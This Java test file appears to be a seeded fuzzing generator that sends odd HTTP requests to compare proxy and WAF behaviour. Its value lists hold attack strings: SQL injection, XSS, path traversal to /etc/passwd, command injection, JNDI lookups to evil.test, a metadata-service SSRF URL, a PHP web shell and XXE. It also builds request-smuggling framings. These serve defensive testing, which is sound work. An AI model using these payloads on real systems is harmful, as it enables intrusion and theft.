package dev.graft.tests.crosscheck;

import static java.util.Objects.requireNonNull;

import dev.graft.tests.harness.Header;
import dev.graft.tests.harness.RawRequest;
import dev.graft.tests.legacy.CaseStep;
import dev.graft.tests.legacy.LegacyCase;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Random;

/**
 * Seeded random requests for the cross-check: the same seed gives the same requests, so a
 * difference can be replayed. They aim at the places proxies disagree: methods (odd and
 * lower-case ones too), targets with odd percent-encodings, dot segments, doubled slashes and
 * repeated args, repeated and oddly cased headers, attack strings from the WAF's domain, and the
 * hosts of the case customers, mixed with paths and headers taken from the cases themselves so
 * that the modules' own rules (keys, redirects, routes) are hit.
 */
public final class RequestGenerator {

    private static final String[] METHODS = {
            "GET", "GET", "GET", "GET", "GET", "GET", "GET", "GET", "HEAD", "HEAD", "POST", "POST", "POST",
            "PUT", "DELETE", "OPTIONS", "OPTIONS", "PATCH", "PURGE", "PROPFIND", "TRACE", "get"};

    private static final String[] SEGMENTS = {
            "a", "b", "api", "v1", "v2", "users", "42", "assets", "docs", "logo.txt", "readme.txt", "site.css",
            "static", "admin", "login", "search", ".", "..", "%2e", "%2E%2E", ".%2e", "%2f", "%2F..", "%252e%252e",
            "..%2f", "%c0%ae%c0%ae", "a%20b", "%41%42C", "%7euser", "~user", "%7E", "caf%C3%A9", "%e2%82%ac",
            "%zz", "%", "%0", "%00", "a;b=c", ";jsessionid=1", "index.php", "wp-login.php", "phpmyadmin",
            "etc", "passwd", "a+b", "*", "%3Cscript%3E", "%27", "%22", "%5C", "x%2Fy", "UPPER", "MiXeD"};

    private static final String[] ARG_NAMES = {
            "q", "id", "x", "a", "page", "sort", "callback", "redirect", "url", "file", "token", "api_key",
            "sig", "expires", "X", "q[]", "%71", "na%20me", ""};

    private static final String[] VALUES = {
            "1", "42", "hello", "hello world", "", "caf\u00e9", "-1", "9999999999999999999",
            "1' OR '1'='1", "1 UNION SELECT password FROM users--", "' or 1=1--", "admin'--", "sleep(5)",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
            "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.png", "${jndi:ldap://x/a}",
            "; cat /etc/passwd", "|id", "`id`", "$(id)", "http://169.254.169.254/latest/meta-data/",
            "php://filter/resource=index.php", "file:///etc/passwd", "{{7*7}}", "<?php system($_GET[c]); ?>",
            "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "%27%20OR%201%3D1"};

    private static final String[] USER_AGENTS = {
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "curl/8.0.1",
            "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "", "  ",
            "python-requests/2.31", "${jndi:ldap://evil.test/a}", "masscan/1.3", "Googlebot/2.1"};

    private static final String[] CLIENT_ADDRESSES = {
            "203.0.113.9", "198.51.100.7", "10.0.0.1", "192.168.1.20", "127.0.0.1", "2001:db8::1",
            "unknown", "203.0.113.9, 10.0.0.1", "1.2.3.4.5", "::ffff:203.0.113.9"};

    private static final String[] ORIGINS = {"https://app.example.com", "https://evil.test", "null", "http://localhost:3000"};

    private final Random random;
    private final List<String> hosts;
    private final List<String> casePaths = new ArrayList<>();
    private final List<Header> caseHeaders = new ArrayList<>();
    private final List<String> caseBodies = new ArrayList<>();

    /** @param cases the cases whose hosts, paths, headers and bodies seed the generator */
    public RequestGenerator(long seed, List<LegacyCase> cases) {
        requireNonNull(cases, "cases");
        this.random = new Random(seed);
        List<String> h = new ArrayList<>();
        for (LegacyCase c : cases) {
            h.add(c.host());
            for (CaseStep step : c.steps()) {
                casePaths.add(step.request().path());
                for (Header header : step.request().headers()) {
                    if (!header.name().equalsIgnoreCase("host") && !header.name().equalsIgnoreCase("content-length")
                            && !header.name().equalsIgnoreCase("transfer-encoding")) {
                        caseHeaders.add(header);
                    }
                }
                step.request().body().ifPresent(caseBodies::add);
            }
        }
        this.hosts = List.copyOf(h);
        if (hosts.isEmpty()) {
            throw new IllegalArgumentException("cases: [] (expected: at least one case, for its host)");
        }
    }

    public RawRequest next() {
        if (random.nextInt(100) < 6) {
            return edge();
        }
        String method = pick(METHODS);
        String target = target();
        List<Header> headers = new ArrayList<>();
        int hostRoll = random.nextInt(100);
        if (hostRoll < 96) {
            headers.add(new Header(oddCase("Host"), host()));
        } else if (hostRoll < 99) {
            headers.add(new Header("Host", "unknown-customer.test"));
        } // else: no Host at all (HTTP/1.1 requires it: both must refuse alike)
        int n = random.nextInt(6);
        for (int i = 0; i < n; i++) {
            headers.add(header());
        }
        Optional<byte[]> body = Optional.empty();
        if ((method.equals("POST") || method.equals("PUT") || method.equals("PATCH")) && random.nextInt(10) < 8) {
            byte[] bytes = body().getBytes(StandardCharsets.UTF_8);
            body = Optional.of(bytes);
            if (random.nextBoolean()) {
                headers.add(new Header("Content-Type", "application/x-www-form-urlencoded"));
            }
            headers.add(new Header("Content-Length", Integer.toString(bytes.length)));
        }
        headers.add(new Header("Connection", "close"));
        return new RawRequest(method, target, headers, body);
    }

    /**
     * A request at the edge of HTTP/1.1 parsing, where a proxy's own codec decides before any
     * module runs: framing, versions, target forms, limits, malformed header lines.
     */
    private RawRequest edge() {
        String host = host();
        List<Header> headers = new ArrayList<>();
        headers.add(new Header("Host", host));
        String method = "GET";
        String target = "/edge?x=1";
        String version = "HTTP/1.1";
        Optional<byte[]> body = Optional.empty();
        switch (random.nextInt(15)) {
            case 0 -> { // a chunked body, with an attack string in it
                method = "POST";
                String part = "q=" + percent(pick(VALUES));
                headers.add(new Header("Transfer-Encoding", "chunked"));
                body = Optional.of((Integer.toHexString(part.length()) + "\r\n" + part + "\r\n0\r\n\r\n")
                        .getBytes(StandardCharsets.UTF_8));
            }
            case 1 -> version = "HTTP/1.0";
            case 2 -> {
                version = "HTTP/1.0";
                headers.clear();
            }
            case 3 -> target = "http://" + pick(hosts) + "/abs?y=2"; // absolute form, Host names another
            case 4 -> target = "/" + "a".repeat(9000);
            case 5 -> headers.add(new Header("X-Big", "b".repeat(10000)));
            case 6 -> {
                for (int i = 0; i < 120; i++) {
                    headers.add(new Header("X-H" + i, "v" + i));
                }
            }
            case 7 -> { // over client_max_body_size 1m
                method = "POST";
                byte[] big = "x".repeat((1 << 20) + 4096).getBytes(StandardCharsets.US_ASCII);
                headers.add(new Header("Content-Length", Integer.toString(big.length)));
                body = Optional.of(big);
            }
            case 8 -> { // smuggling: both framings
                method = "POST";
                headers.add(new Header("Content-Length", "3"));
                headers.add(new Header("Transfer-Encoding", "chunked"));
                body = Optional.of("3\r\nabc\r\n0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            }
            case 9 -> { // smuggling: two lengths
                method = "POST";
                headers.add(new Header("Content-Length", "3"));
                headers.add(new Header("Content-Length", "5"));
                body = Optional.of("abcde".getBytes(StandardCharsets.US_ASCII));
            }
            case 10 -> {
                method = "PUT";
                headers.add(new Header("Expect", "100-continue"));
                headers.add(new Header("Content-Length", "4"));
                body = Optional.of("data".getBytes(StandardCharsets.US_ASCII));
            }
            case 11 -> headers.add(new Header("X-Fold", "first\r\n second")); // obsolete line folding
            case 12 -> headers.add(new Header("X-Space ", "1")); // blank before the colon
            case 13 -> {
                headers.clear();
                headers.add(new Header("Host", "bad_host!.test"));
            }
            default -> { // GET with a body
                headers.add(new Header("Content-Length", "7"));
                body = Optional.of("payload".getBytes(StandardCharsets.US_ASCII));
            }
        }
        headers.add(new Header("Connection", "close"));
        return new RawRequest(method, target, version, headers, body);
    }

    private String host() {
        String host = pick(hosts);
        return switch (random.nextInt(12)) {
            case 0 -> host.toUpperCase(Locale.ROOT);
            case 1 -> host + ":80";
            case 2 -> host + ".";
            case 3 -> host + ":8080";
            default -> host;
        };
    }

    private String target() {
        String path;
        if (!casePaths.isEmpty() && random.nextInt(3) == 0) {
            path = mutate(pick(casePaths));
        } else {
            StringBuilder p = new StringBuilder();
            int segments = 1 + random.nextInt(4);
            for (int i = 0; i < segments; i++) {
                p.append(random.nextInt(12) == 0 ? "//" : "/").append(pick(SEGMENTS));
            }
            if (random.nextInt(6) == 0) {
                p.append('/');
            }
            path = p.toString();
        }
        if (path.indexOf('?') < 0 && random.nextBoolean()) {
            path = path + "?" + query();
        }
        return path;
    }

    /** A case's path with something changed: case, a dot segment, a doubled slash, an extra arg. */
    private String mutate(String path) {
        return switch (random.nextInt(6)) {
            case 0 -> path.toUpperCase(Locale.ROOT);
            case 1 -> path.replaceFirst("/", "/./");
            case 2 -> path.replaceFirst("/", "//");
            case 3 -> path + (path.indexOf('?') < 0 ? "?" : "&") + query();
            case 4 -> path.replaceFirst("/([^/?]*)", "/x/../$1");
            default -> path;
        };
    }

    private String query() {
        StringBuilder q = new StringBuilder();
        int args = 1 + random.nextInt(4);
        for (int i = 0; i < args; i++) {
            if (i > 0) {
                q.append(random.nextInt(15) == 0 ? "&&" : "&");
            }
            q.append(pick(ARG_NAMES));
            if (random.nextInt(8) != 0) {
                q.append('=').append(encoded(pick(VALUES)));
            }
        }
        return q.toString();
    }

    /** A value as a client might put it in a target: percent-encoded, plus for space, doubly, or raw. */
    private String encoded(String value) {
        return switch (random.nextInt(10)) {
            case 0 -> value.replace(" ", "+").replace("#", "%23").replace("&", "%26");
            case 1 -> percent(percent(value));
            case 2 -> value.replace(" ", "%20").replace("#", "%23").replace("&", "%26"); // mostly raw
            default -> percent(value);
        };
    }

    private static String percent(String value) {
        StringBuilder out = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xff;
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || "-._~".indexOf(c) >= 0) {
                out.append((char) c);
            } else {
                out.append('%').append(Character.toUpperCase(Character.forDigit(c >> 4, 16)))
                        .append(Character.toUpperCase(Character.forDigit(c & 15, 16)));
            }
        }
        return out.toString();
    }

    private Header header() {
        if (!caseHeaders.isEmpty() && random.nextInt(3) == 0) {
            Header h = pick(caseHeaders);
            return new Header(oddCase(h.name()), h.value());
        }
        return switch (random.nextInt(12)) {
            case 0 -> new Header("User-Agent", pick(USER_AGENTS));
            case 1, 2 -> new Header(oddCase("X-Forwarded-For"), pick(CLIENT_ADDRESSES));
            case 3 -> new Header("Referer", "https://ref.test/?q=" + pick(VALUES).replace(" ", "%20"));
            case 4 -> new Header("Cookie", "session=abc123; pref=" + pick(VALUES).replace(";", "%3B"));
            case 5 -> new Header("Origin", pick(ORIGINS));
            case 6 -> new Header("Authorization", random.nextBoolean()
                    ? "Basic " + Base64.getEncoder().encodeToString(("user:" + pick(VALUES)).getBytes(StandardCharsets.UTF_8))
                    : "Bearer " + pick(VALUES).replace(" ", ""));
            case 7 -> new Header("X-Custom", pick(VALUES).replace("\n", ""));
            case 8 -> new Header("Accept", random.nextBoolean() ? "*/*" : "text/html,application/json;q=0.9");
            case 9 -> new Header("If-None-Match", random.nextBoolean() ? "*" : "\"0123456789abcdef\"");
            case 10 -> new Header("Access-Control-Request-Method", pick(METHODS));
            default -> new Header("X-Scanner", "probe");
        };
    }

    private String body() {
        if (!caseBodies.isEmpty() && random.nextInt(3) == 0) {
            return pick(caseBodies);
        }
        return switch (random.nextInt(4)) {
            case 0 -> "a=1&b=" + percent(pick(VALUES));
            case 1 -> "{\"q\": \"" + pick(VALUES).replace("\"", "\\\"") + "\"}";
            case 2 -> pick(VALUES);
            default -> "";
        };
    }

    private String oddCase(String name) {
        return switch (random.nextInt(10)) {
            case 0 -> name.toLowerCase(Locale.ROOT);
            case 1 -> name.toUpperCase(Locale.ROOT);
            default -> name;
        };
    }

    private <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    private String pick(String[] values) {
        return values[random.nextInt(values.length)];
    }
}
